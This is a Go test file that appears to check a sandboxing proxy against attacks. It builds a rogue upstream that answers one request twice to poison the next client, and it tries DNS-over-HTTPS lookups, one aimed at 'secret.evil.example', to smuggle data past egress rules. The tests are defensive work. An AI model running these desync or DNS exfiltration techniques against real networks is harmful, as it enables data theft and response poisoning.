package siege

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"bottled/attack"
)

// TestAttackDesyncedUpstream has an allowed upstream answer one request with two responses,
// the second meant for whoever comes next on a connection that is kept.
func TestAttackDesyncedUpstream(t *testing.T) {
	const poison = "a response that nobody asked for"
	at := desynced(t, poison)
	d := newDaemon(t)
	route := fmt.Sprintf("    - host: %s\n      ports: [%d]\n", allowedHost, at.Port)
	a, b := d.bottle(t, options{routes: route}), d.bottle(t, options{routes: route})
	url := fmt.Sprintf("https://%s:%d/", allowedHost, at.Port)
	poisoned := func(body string) error {
		if strings.Contains(body, poison) {
			return nil
		}
		return fmt.Errorf("it got %q", body)
	}
	attack.Stopped(t, "H31", "two responses to one request, as the next of the same and of another bottle",
		func(*testing.T) error { // one who reads on gets it
			conn, err := tls.Dial("tcp", at.String(), &tls.Config{ServerName: allowedHost, RootCAs: world.authority.Pool()})
			if err != nil {
				return err
			}
			defer conn.Close()
			fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", allowedHost)
			text, err := io.ReadAll(conn)
			if err != nil && len(text) == 0 {
				return err
			}
			return poisoned(string(text))
		},
		func(*testing.T) error {
			var bodies []string
			for range 20 {
				for _, who := range []*besieged{a, b} {
					said, _ := who.do(order{Op: "get", URL: url})
					bodies = append(bodies, said.Body)
				}
			}
			if !strings.Contains(strings.Join(bodies, " "), "first") {
				t.Error("the upstream was never reached")
			}
			return poisoned(strings.Join(bodies, " "))
		})
}

// desynced is an upstream that answers every connection's first request twice.
func desynced(t *testing.T, poison string) *net.TCPAddr {
	t.Helper()
	leaf, err := world.authority.Leaf(allowedHost)
	must(t, err)
	var l net.Listener
	must(t, world.sink.Do(func() (err error) {
		l, err = net.Listen("tcp", allowedAddr4.String()+":0")
		return err
	}))
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				secure := tls.Server(conn, &tls.Config{Certificates: []tls.Certificate{leaf}})
				defer secure.Close()
				if _, err := http.ReadRequest(bufio.NewReader(secure)); err != nil {
					return
				}
				for _, body := range []string{"first", poison} {
					fmt.Fprintf(secure, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
				}
			}()
		}
	}()
	return l.Addr().(*net.TCPAddr)
}

// TestAttackDNSOverHTTPS asks resolvers that speak HTTPS, by name and by address.
func TestAttackDNSOverHTTPS(t *testing.T) {
	d := newDaemon(t)
	b := d.bottle(t, options{})
	free := outside(t)
	const query = "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
	for name, url := range map[string]string{
		"by name": "https://%s" + query, "as JSON": "https://%s/resolve?name=secret.evil.example", "in the clear": "http://%s" + query,
	} {
		at := func(tg target) order { return order{Op: "get", URL: fmt.Sprintf(url, tg.Host)} }
		ask := func(who *agent, tg target) attack.Probe {
			return func(*testing.T) error {
				m := tg.mark()
				_, said := who.do(at(tg))
				if tg.since(m, attackPatience) == nil {
					return nil
				}
				return fmt.Errorf("no resolver was reached; the program saw: %v", said)
			}
		}
		attack.Stopped(t, "D03", "a resolver over HTTPS, "+name, ask(free, control), ask(b.agent, forbidden))
	}
	byAddress := order{Op: "dial", Network: "tcp4", N: 443, Data: "GET " + query + " HTTP/1.1\r\nHost: dns\r\n\r\n"}
	attack.Stopped(t, "D03", "a resolver over HTTPS, by address", free.reaches(byAddress, control), b.reaches(byAddress, forbidden))
}
